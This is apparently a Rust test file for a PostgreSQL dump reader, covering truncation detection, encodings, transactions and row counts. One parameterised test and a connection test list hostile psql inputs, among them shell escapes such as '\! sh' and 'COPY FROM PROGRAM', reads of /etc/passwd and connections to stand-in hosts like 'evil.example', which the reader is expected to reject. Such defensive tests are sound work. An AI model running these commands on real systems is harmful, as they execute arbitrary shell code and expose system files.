//! A small dump and what becomes of it.

use super::*;
use crate::fault::{Fault, FaultKind};
use rstest::rstest;

const GOOD: &str = "\
--
-- PostgreSQL database dump
--

\\restrict abc

-- Dumped from database version 17.6 (Debian 17.6-1)
-- Dumped by pg_dump version 17.6

SET client_encoding = 'UTF8';
SET row_security = off;
CREATE EXTENSION IF NOT EXISTS vector WITH SCHEMA public;
CREATE TABLE app.orders (id int);
ALTER TABLE app.orders OWNER TO app_owner;
COPY app.orders (id) FROM stdin;
1
2
\\.
INSERT INTO app.\"Odd\" VALUES (1), (2), (3);
SELECT pg_catalog.lo_create('16409');
GRANT SELECT ON TABLE app.orders TO app;
CREATE INDEX orders_id ON app.orders USING btree (id);
--
-- PostgreSQL database dump complete
--

\\unrestrict abc
";

fn problems(text: &str) -> Vec<String> {
    let (_, found, _) = read(text.as_bytes()).unwrap();
    found
        .problems
        .into_iter()
        .map(|fault| format!("{}; {}", fault.expected, fault.found))
        .collect()
}

#[test]
fn a_good_dump_is_read() {
    let (contents, found, offset) = read(GOOD.as_bytes()).unwrap();
    assert_eq!((found.problems, found.warnings), (vec![], vec![]));
    assert_eq!(offset, GOOD.len() as u64);
    assert_eq!(contents.major(), Some(17));
    assert_eq!(contents.dump_version.as_deref(), Some("pg_dump 17.6"));
    assert_eq!(contents.extensions, ["vector"]);
    assert_eq!(contents.owners, ["app_owner"]);
    assert_eq!(contents.large_objects, 1);
    assert_eq!(contents.encoding.as_deref(), Some("UTF8"));
    assert!(contents.has_privileges);
    let rows: Vec<_> = contents
        .rows
        .iter()
        .map(|((_, t), r)| (t.to_string(), r.count))
        .collect();
    assert_eq!(
        rows,
        [("app.\"Odd\"".to_owned(), 3), ("app.orders".to_owned(), 2)]
    );
    let begins = usize::try_from(contents.data_begins.unwrap()).unwrap();
    assert!(GOOD[begins..].starts_with("COPY app.orders"));
    let ends = usize::try_from(contents.data_ends.unwrap()).unwrap();
    assert!(GOOD[..ends].ends_with("VALUES (1), (2), (3);\n"));
}

#[test]
fn a_cut_after_any_line_is_seen() {
    let lines: Vec<&str> = GOOD.split_inclusive('\n').collect();
    for kept in 0..lines.len() {
        let cut: String = lines[..kept].concat();
        assert!(
            !problems(&cut).is_empty(),
            "F01-F03: cut after line {kept} passes"
        );
    }
}

#[test]
fn a_cut_after_any_byte_is_seen() {
    for end in 0..GOOD.len() - 1 {
        assert!(
            !problems(&GOOD[..end]).is_empty(),
            "F03: cut after byte {end} passes"
        );
    }
}

#[rstest]
#[case("\\! touch /tmp/x\n")]
#[case("\\o |sh\n")]
#[case("SELECT 1 \\g |sh\n")]
#[case("\\copy t from program 'sh'\n")]
#[case("\\i /etc/passwd\n")]
#[case("\\connect - - evil.example 5432\n")]
#[case("\\connect \"host=evil dbname=x\"\n")]
#[case("\\unrestrict `touch /tmp/x`\n")]
#[case("COPY t FROM PROGRAM 'sh';\n")]
#[case("copy (select 1) /* */ to\nprogram 'sh';\n")]
#[case("COPY t FROM '/etc/passwd';\n")]
#[case("COPY t FROM stdin; \\! sh\n1\n\\.\n")]
#[case("\\set x `sh`\n")]
fn what_reaches_outside_is_refused(#[case] line: &str) {
    let text = GOOD.replacen("SET row_security", &format!("{line}SET row_security"), 1);
    assert!(!problems(&text).is_empty(), "F32: {line} passes");
}

#[rstest]
#[case("plur", Some("plur"))]
#[case("\"My DB\"", Some("My DB"))]
#[case("-reuse-previous=on \"dbname='it\\'s'\"", Some("it's"))]
#[case("-reuse-previous=on \"dbname='x' host='evil'\"", None)]
#[case("x user", None)]
#[case("postgres://evil/x", None)]
fn connections_stay_on_this_server(#[case] argument: &str, #[case] database: Option<&str>) {
    assert_eq!(connected_database(argument).as_deref(), database);
}

#[test]
fn text_in_rows_and_bodies_is_only_text() {
    let text = GOOD
        .replacen(
            "1\n2\n",
            "\\\\! sh\n-- PostgreSQL database dump\nCOPY t FROM PROGRAM 'x';\n",
            1,
        )
        .replacen(
            "SET row_security",
            "CREATE FUNCTION f() AS $$\n\\! sh\n-- PostgreSQL database dump\n$$;\nSET row_security",
            1,
        );
    assert_eq!(problems(&text), Vec::<String>::new());
}

#[test]
fn rows_in_utf_8_under_another_encoding_are_told() {
    let dump = |database: &str, encoding: &str, row: &[u8]| {
        let head = format!(
            "CREATE DATABASE d ENCODING = '{database}';\n\\connect d\nSET client_encoding = '{encoding}';\nCOPY t FROM stdin;\n"
        );
        let bytes = [head.as_bytes(), row, b"\n\\.\n"].concat();
        let (_, found, _) = read(bytes.as_slice()).unwrap();
        let told = |list: &[Fault]| list.iter().any(|f| f.found.contains("in UTF-8"));
        (told(&found.problems), told(&found.warnings))
    };
    let (utf8, latin) = ("naïve".as_bytes(), b"na\xefve".as_slice());
    assert_eq!(dump("UTF8", "LATIN1", utf8), (true, false));
    assert_eq!(dump("LATIN1", "LATIN1", utf8), (false, true));
    for (encoding, row) in [
        ("LATIN1", latin),
        ("LATIN1", b"plain"),
        ("UTF8", utf8),
        ("SQL_ASCII", utf8),
    ] {
        assert_eq!(dump("UTF8", encoding, row), (false, false), "{encoding}");
    }
}

#[test]
fn a_dump_under_row_security_is_refused() {
    assert_eq!(
        problems(&GOOD.replace("row_security = off", "row_security = on")).len(),
        1
    );
}

const RICH: &str = "\
--
-- PostgreSQL database dump
--

-- Dumped from database version 17.6
SET transaction_timeout = 0;
CREATE SCHEMA app;
CREATE SCHEMA IF NOT EXISTS \"Odd one\";
CREATE EXTENSION IF NOT EXISTS age WITH SCHEMA ag_catalog;
CREATE FUNCTION app.f() RETURNS trigger AS $$ BEGIN; END $$ LANGUAGE plpgsql;
CREATE UNLOGGED TABLE app.events (id integer, at date) PARTITION BY RANGE (at);
CREATE TABLE app.events_1 (id integer, at date);
CREATE TABLE IF NOT EXISTS app.sessions (id integer REFERENCES app.events (id));
CREATE TABLE app.empty (id integer);
CREATE FOREIGN TABLE app.far (id integer) SERVER there;
ALTER TABLE app.sessions ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY ( SEQUENCE NAME app.ids START WITH 1);
ALTER TABLE ONLY app.events ATTACH PARTITION app.events_1 FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');
CREATE VIEW app.v AS
 SELECT EXTRACT(year FROM e.at) AS year
   FROM (app.events e
     JOIN hidden.other o ON (o.id = e.id));
CREATE MATERIALIZED VIEW app.m AS SELECT 1 WITH NO DATA;
CREATE SEQUENCE app.s;
COPY ag_catalog.ag_graph (graphid, name, namespace) FROM stdin;
17000\tplur\tplur
17001\todd\\\\one\t\"odd\\\\one\"
\\.
COPY app.events (id, at) FROM stdin;
1\t2026-02-01
\\.
--
-- Data for Name: empty; Type: TABLE DATA; Schema: app; Owner: -
--

SELECT pg_catalog.lo_create('16409');
SELECT pg_catalog.lowrite(0, '\\x00ff10');
ALTER TABLE ONLY app.events ADD CONSTRAINT k FOREIGN KEY (id) REFERENCES gone.parent(id);
CREATE UNIQUE INDEX i ON app.events_1 USING hnsw (id);
CREATE TRIGGER t BEFORE INSERT ON app.events FOR EACH ROW EXECUTE FUNCTION app.f();
CREATE POLICY tenant ON app.events TO reader USING (true);
ALTER TABLE app.events ENABLE ROW LEVEL SECURITY;
ALTER TABLE ONLY app.events FORCE ROW LEVEL SECURITY;
GRANT SELECT ON TABLE app.events TO writer;
--
-- PostgreSQL database dump complete
--
";

#[test]
fn everything_that_a_dump_says_is_learned() {
    let (contents, found, _) = read(RICH.as_bytes()).unwrap();
    assert_eq!((found.problems, found.warnings), (vec![], vec![]));
    let list = |set: &std::collections::BTreeSet<String>| {
        set.iter().map(String::as_str).collect::<Vec<_>>().join(" ")
    };
    assert_eq!(list(&contents.schemas), "Odd one ag_catalog app");
    assert_eq!(
        list(&contents.graphs),
        "odd\\one plur",
        "names as rows escape them"
    );
    assert_eq!(contents.tables.len(), 5);
    assert_eq!(contents.without_data[0].to_string(), "app.sessions");
    assert_eq!(contents.without_data.len(), 1, "F39: --exclude-table-data");
    assert_eq!(list(&contents.left_out), "gone.parent schema hidden", "F39");
    assert_eq!(contents.roles_needed(), ["reader", "writer"]);
    assert_eq!(list(&contents.access_methods), "hnsw");
    assert_eq!(
        (contents.large_objects, contents.large_object_bytes),
        (1, 3)
    );
    assert_eq!(contents.row_security, 1);
    assert_eq!(contents.policies.len(), 1);
    let counts = contents.counts;
    assert_eq!(
        [
            counts.constraints,
            counts.indexes,
            counts.triggers,
            counts.functions,
            counts.views,
            counts.sequences
        ],
        [1, 1, 1, 1, 2, 2]
    );
}

#[test]
fn graphs_are_named_by_inserts_too() {
    for sql in [
        "INSERT INTO ag_catalog.ag_graph VALUES (1, 'plur', 'plur'), (2, 'b', 'b');\n",
        "INSERT INTO ag_catalog.ag_graph (name, graphid, namespace) VALUES ('plur', 1, 'x'), ('b', 2, 'y');\n",
    ] {
        let (contents, ..) = read(sql.as_bytes()).unwrap();
        assert!(
            contents.graphs.iter().eq(["b", "plur"]),
            "{:?}",
            contents.graphs
        );
    }
}

#[rstest]
#[case(
    "INSERT INTO t VALUES (1), (2);\nINSERT INTO t VALUES (3);\n",
    3,
    false,
    false
)]
#[case(
    "INSERT INTO t VALUES (1), (2) ON CONFLICT DO NOTHING;\n",
    2,
    false,
    true
)]
#[case("INSERT INTO t SELECT generate_series(1, 9);\n", 0, true, false)]
#[case("INSERT INTO t DEFAULT VALUES;\n", 1, false, false)]
fn rows_of_inserts_are_told(
    #[case] sql: &str,
    #[case] count: u64,
    #[case] unknown: bool,
    #[case] fewer: bool,
) {
    let (contents, ..) = read(sql.as_bytes()).unwrap();
    let rows: Vec<_> = contents.rows.values().collect();
    assert_eq!(
        (rows[0].count, rows[0].unknown, rows[0].may_be_fewer),
        (count, unknown, fewer),
        "F49"
    );
    assert_eq!(rows[0].bytes, sql.trim_end().replace('\n', "").len() as u64);
}

/// As a writer in a server's own language does it: one transaction, INSERTs, a line between statements.
const OTHER: &str = "\
-- Shop database backup
-- Created: 2026-11-21T00:00:00.000Z

BEGIN;
-- statement breakpoint 1
SET LOCAL session_replication_role = replica;
-- statement breakpoint 1
CREATE TABLE \"public\".\"notes\" (\"id\" integer NOT NULL, \"text\" text, CONSTRAINT \"k\" PRIMARY KEY (\"id\"));
-- statement breakpoint 1
INSERT INTO \"public\".\"notes\" (\"id\", \"text\") VALUES (1, $s$it's; COMMIT;$s$), (2, $s$
-- statement breakpoint 1
$s$);
-- statement breakpoint 1
CREATE INDEX \"i\" ON \"public\".\"notes\" (\"text\");
-- statement breakpoint 1

COMMIT;
-- statement breakpoint 1
";

#[test]
fn one_transaction_proves_the_end_of_any_writers_file() {
    let (contents, found, _) = read(OTHER.as_bytes()).unwrap();
    assert_eq!((found.problems, found.warnings), (vec![], vec![]));
    assert_eq!(contents.writer.as_deref(), Some("Shop"));
    assert_eq!(contents.made, "2026-11-21T00:00:00Z".parse().ok());
    assert_eq!(contents.rows.values().next().unwrap().count, 2);
    assert!(contents.without_data.is_empty());
    let committed = OTHER.rfind("COMMIT;").unwrap() + "COMMIT;".len();
    let opened = OTHER.find("BEGIN;").unwrap() + "BEGIN;".len();
    for end in opened..committed {
        assert!(
            !problems(&OTHER[..end]).is_empty(),
            "F47: cut after byte {end} passes"
        );
    }
    assert_eq!(problems(&OTHER[..committed]), [""; 0]);
}

#[rstest]
#[case("INSERT INTO t VALUES (1);\nBEGIN;\nINSERT INTO t VALUES (1);\nCOMMIT;\n")]
#[case("BEGIN;\nINSERT INTO t VALUES (1);\nCOMMIT;\nBEGIN;\nINSERT INTO t VALUES (1);\nCOMMIT;\n")]
#[case("BEGIN;\nINSERT INTO t VALUES (1);\nCOMMIT;\nSELECT 1;\n")]
#[case("INSERT INTO t VALUES (1);\n")]
fn what_proves_no_end_is_warned_of(#[case] sql: &str) {
    let (_, found, _) = read(sql.as_bytes()).unwrap();
    assert_eq!(
        (found.problems.len(), found.warnings.len()),
        (0, 1),
        "F47: {:?}",
        found.problems
    );
}

#[test]
fn a_dump_without_its_last_section_is_warned_of() {
    let cut = GOOD.replace(
        "CREATE INDEX orders_id ON app.orders USING btree (id);\n",
        "",
    );
    let (_, found, _) = read(cut.as_bytes()).unwrap();
    assert_eq!(found.problems, []);
    assert_eq!(found.warnings[0].kind, FaultKind::OnlyTables, "F41");
}

#[rstest]
#[case("SET client_encoding = 'LATIN1';")]
#[case("set client_encoding to latin1;")]
#[case("SET SESSION client_encoding TO 'iso-8859-1';")]
#[case("SET NAMES 'LATIN1';")]
#[case("SELECT pg_catalog.set_config('client_encoding', 'LATIN1', false);")]
fn names_are_decoded_by_the_encoding_that_is_set(#[case] set: &str) {
    let rest: &[u8] = b"\nCREATE TABLE public.\"gr\xf6\xdfe\" (\"\xe9\" text);\n\
        COPY public.\"gr\xf6\xdfe\" (\"\xe9\") FROM stdin;\na\n\\.\n\
        INSERT INTO public.\"stra\xdfe\" VALUES (1);\nRESET client_encoding;\n\
        SET client_encoding = UTF8;\nCOPY public.\"\xc3\xa9\" FROM stdin;\n1\n\\.\n";
    let dump = [set.as_bytes(), rest].concat();
    let (contents, found, _) = read_into(Lexer::new(&dump[..]), Gather::digesting()).unwrap();
    let rows = |name: &str| {
        let rows = contents
            .rows
            .get(&(String::new(), QualifiedName::parse(name).unwrap()));
        rows.map(|rows| (rows.count, rows.values.columns.as_str()))
    };
    assert_eq!(rows("\"größe\""), Some((1, "(\"é\")")));
    assert_eq!(rows("\"straße\""), Some((1, "")));
    assert_eq!(rows("\"é\""), Some((1, "")));
    assert_eq!(contents.encoding.as_deref(), Some("LATIN1"));
    assert_eq!(contents.tables.len(), 1);
    assert!(found.unread.is_empty(), "{:?}", found.unread);
}

#[rstest]
// The second byte of the letter is a backslash.
#[case("SJIS", b"\x95\\", "表")]
#[case("BIG5", b"\xa5\\", "功")]
#[case("GBK", b"\xd5\\", "誠")]
#[case("GB18030", b"\xd5\\", "誠")]
fn letters_that_end_like_an_escape_end_no_text(
    #[case] encoding: &str,
    #[case] letter: &[u8],
    #[case] decoded: &str,
) {
    let set = format!("SET client_encoding = '{encoding}';\n");
    // A line longer than what is read at once, which ends anywhere within a letter.
    for more in 0..4 {
        let dump = [
            set.as_bytes(),
            b"INSERT INTO public.\"",
            letter,
            b"\" VALUES (E'",
            &b"x".repeat(more),
            &letter.repeat(200_000),
            b"'), ('",
            letter,
            b"');\nSELECT E'",
            letter,
            b"';\nCREATE TABLE public.t (a text);\n",
        ]
        .concat();
        let (contents, ..) = read(&dump[..]).unwrap();
        let table = QualifiedName::parse(decoded).unwrap();
        assert_eq!(contents.rows[&(String::new(), table)].count, 2);
        assert_eq!((contents.tables.len(), contents.statements), (1, 4));
    }
}

#[rstest]
#[case("EUC_TW", true)]
#[case("SQL_ASCII", true)]
#[case("LATIN1", false)]
// The server refuses it.
#[case("UTF8", false)]
fn names_that_are_not_decoded_are_reported(#[case] encoding: &str, #[case] unread: bool) {
    let set = format!("SET client_encoding = '{encoding}';\n");
    let dump = [
        set.as_bytes(),
        b"CREATE TABLE public.\"\xc4\xe3\" (a text);\n",
    ]
    .concat();
    let (_, found, _) = read(&dump[..]).unwrap();
    assert_eq!(!found.unread.is_empty(), unread, "{:?}", found.unread);
    let rows = [
        set.as_bytes(),
        b"COPY t FROM stdin;\n\xc4\xe3\n\\.\nSELECT '\xc4\xe3';\n",
    ]
    .concat();
    assert!(read(&rows[..]).unwrap().1.unread.is_empty());
}
